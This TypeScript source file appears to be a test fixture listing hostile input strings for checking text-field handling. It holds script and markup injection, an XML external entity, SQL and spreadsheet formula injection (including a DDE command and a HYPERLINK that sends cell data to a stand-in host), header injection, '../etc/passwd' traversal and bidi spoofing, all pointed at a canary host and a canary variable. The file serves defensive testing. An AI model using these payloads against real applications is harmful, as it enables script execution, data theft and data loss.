/** A text that an attacker or an accident could put into a field. */
export interface Payload {
  /** A short name, unique. */
  name: string;
  text: string;
}

/** A host that no page may call. */
export const canaryHost = 'canary.invalid';

/** The name of a global variable that a payload sets if it is executed. */
export const canaryGlobal = 'hostileTextRan';

const run = `globalThis.${canaryGlobal}=1`;
const host = `//${canaryHost}`;

/** The payloads by their class. Control characters are written as escapes, so that the file itself stays readable. */
const payloadClasses = {
  markup: {
    script: `<script>${run}</script>`,
    image: `<img src=x onerror="${run}">`,
    'attribute end': `"><img src=x onerror=${run}>`,
    'single quote end': `' autofocus onfocus='${run}' x='`,
    'vector image': `<svg onload=${run}><use href="${host}/a.svg#x"/></svg>`,
    frame: `<iframe src="javascript:${run}" srcdoc="<script>parent.${run}</script>"></iframe>`,
    'style element': `<style>@import "${host}/a.css";*{display:none!important}</style>`,
    'style end': `</style><script>${run}</script><style>`,
    'script end': `</script><script>${run}</script>`,
    'textarea end': `</textarea></title><script>${run}</script>`,
    'comment end': `--><script>${run}</script><!--`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=https:${host}">`,
    'base address': `<base href="https:${host}/">`,
    form: `<form action="https:${host}"><button formaction="javascript:${run}">OK</button></form>`,
    'clobbered name': '<form id="root" name="body"><input name="getElementById"></form>',
    entity: `&lt;script&gt;${run}&lt;/script&gt;&#x3C;b&#x3E;&amp;nbsp;`,
    'mathematical markup': `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    'external entity': `<!DOCTYPE x [<!ENTITY e SYSTEM "https:${host}/e">]><x>&e;</x>`,
    'character data': `<![CDATA[<script>${run}</script>]]>`,
  },
  address: {
    'script address': `javascript:${run}`,
    'script address with a tab': `java\tscript:${run}`,
    'data address': `data:text/html,<script>parent.${run}</script>`,
    'protocol-relative address': `${host}/picture.png`,
    'file path': '../../../../etc/passwd',
    'Windows device': 'CON.pdf',
    'Markdown link': `[Open](javascript:${run})`,
    'mail header': `a@b.test?bcc=c@${canaryHost}&body=x`,
  },
  style: {
    'value end': `red;background:url(https:${host}/a.png)`,
    'rule end': `}*{display:none}a{background:url(https:${host}/b.png)`,
    expression: `expression(${run})`,
    'custom property': 'var(--color-accent, url(x))',
  },
  template: {
    interpolation: '{{name}} {{- count}} {{constructor}}',
    nesting: '$t(title) $t(session:title, {"count": 2})',
    'nesting of a missing key': '$t(no.such.key)',
    expression: `{{constructor.constructor('${run}')()}}`,
    'template literal': '${globalThis.hostileTextRan=1}`',
    'server template': `<%= ${run} %> #{${run}} *{${run}}`,
    'replacement pattern': "$& $` $' $$ $1 $<name>.",
    'replacement pattern at the end of a sentence': '$`.',
    'format sign': '%s %n %d %c %00 %0d%0a %E0%A4%A',
    'key separators': 'session:title.name_one',
  },
  property: {
    prototype: '__proto__',
    constructor: 'constructor',
    method: 'toString',
    'no value': 'undefined',
    null: 'null',
    'no number': 'NaN',
    JSON: '{"__proto__":{"isAdmin":true}}',
    'database query': "'; DROP TABLE people; -- ",
  },
  formula: {
    call: '=1+1',
    'dynamic exchange': "=cmd|' /C calc'!A0",
    link: `=HYPERLINK("https:${host}/?x="&A1,"Open")`,
    plus: '+1+1',
    minus: '-1+1|x',
    function: '@SUM(A1:A9)',
    'after a tab': '\t=1+1',
    'after a line break': '\r\n=1+1',
    'full-width sign': '＝1+1',
    'after quotes and a separator': '","=1+1;=2+2',
  },
  'line break': {
    'carriage return and line feed': 'one\r\ntwo\r\n\r\nthree',
    'line feed': 'one\ntwo\n\n\n\n\nthree',
    'carriage return': 'one\rtwo',
    'response header': `x\r\nSet-Cookie: a=b\r\nLocation: https:${host}\r\n\r\n<script>${run}</script>`,
    'calendar event': 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nEND:VEVENT',
    'calendar separators': 'a;b,c:d\\e\\nf"g^n',
    'Unicode line ends': 'one\u2028two\u2029three\u0085four',
  },
  control: {
    NUL: 'before\u0000after',
    'all control characters': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
    'terminal sequence': '\u001b[31mred\u001b[0m\u0007\u0008\u007f',
    'byte order mark': '\uFEFFtext\uFFFE\uFFFF',
    'half of a pair': 'a\uD83Db\uDE00c',
  },
  direction: {
    override: 'report\u202Efdp.exe',
    'unclosed embedding': '\u202A\u202B\u2066\u2067\u2068 text',
    Arabic: 'مرحبا بالعالم 123 (قائمة)',
    Hebrew: 'שלום, עולם! 10:30–12:00',
    mixed: 'Jana שלום 42 مرحبا <b>',
  },
  invisible: {
    'zero-width': 'ad\u200Bmin\u200C\u200D\u2060\u00AD',
    'only zero-width': '\u200B\u200B\u2060',
    'only spaces': '        ',
    'non-breaking spaces': '\u00A0\u202F\u2007'.repeat(20),
    'tag characters': 'a\u{E0061}\u{E0062}\u{E007F}b',
    'look-alikes': 'Аdmіnіstrаtоr',
  },
  long: {
    'one word': 'W'.repeat(400),
    'digits and dots': '1.234.567,'.repeat(40),
    'long address': `https:${host}/${'path/'.repeat(80)}`,
    'non-breaking words': Array.from({ length: 60 }, () => 'slovo').join('\u00A0'),
    'many words': 'Verylongtextwithoutend and more '.repeat(60),
    'many lines': 'line\n'.repeat(60),
    'combining marks': `Z${'\u0337\u0322\u0361\u0489'.repeat(60)}algo`,
  },
  emoji: {
    family: '👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 👍🏿 🇨🇿🇸🇰',
    row: '😀'.repeat(120),
    'joined without end': '👩\u200D'.repeat(50),
  },
} satisfies Record<string, Record<string, string>>;

/** A class of payloads. */
export type PayloadClass = keyof typeof payloadClasses;

/** All payloads in their order. */
export const payloads: readonly (Payload & { kind: PayloadClass })[] = Object.entries(payloadClasses).flatMap(
  ([kind, texts]) =>
    Object.entries(texts).map(([name, text]) => ({ kind: kind as PayloadClass, name, text })),
);
